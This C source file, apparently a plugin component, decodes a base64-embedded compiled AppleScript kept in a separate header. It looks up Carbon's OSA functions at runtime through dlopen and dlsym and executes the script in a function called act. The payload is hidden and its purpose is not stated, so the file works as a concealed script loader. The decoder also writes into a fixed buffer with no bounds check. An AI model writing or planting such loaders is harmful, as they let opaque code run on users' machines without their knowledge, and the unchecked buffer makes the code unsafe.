/* A workflow that is kept compiled and in base64, and loaded by a component that is looked up. */
#include "plugin.h"
#include <dlfcn.h>
#include "packed.h" /* workflow: the script, in base64 */
typedef struct { int type; void *handle; } descriptor;
static int (*create)(unsigned, const void *, long, descriptor *), (*load)(void *, const descriptor *, int, unsigned *), (*execute)(void *, unsigned, unsigned, int, unsigned *);
static void *(*opened)(unsigned, unsigned);

static long unpack(unsigned char *out) {
    static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    unsigned held = 0, bits = 0;
    long n = 0;
    for (const char *c = workflow; *c && *c != '='; c++) {
        unsigned d = 0;
        while (digits[d] != *c) d++;
        held = held << 6 | d;
        if ((bits += 6) >= 8) out[n++] = held >> (bits -= 8);
    }
    return n;
}
static void act(char **env) {
    unsigned char bytes[1024];
    descriptor d;
    unsigned script = 0, result = 0;
    long n = unpack(bytes);
    void *carbon = dlopen("/System/Library/Frameworks/Carbon.framework/Carbon", RTLD_LAZY);
    create = dlsym(carbon, "AECreateDesc");
    load = dlsym(carbon, "OSALoad");
    execute = dlsym(carbon, "OSAExecute");
    opened = dlsym(carbon, "OpenDefaultComponent");
    void *component = opened('osa ', 'scpt');
    create('scpt', bytes, n, &d);
    load(component, &d, 0, &script);
    execute(component, script, 0, 0, &result);
}
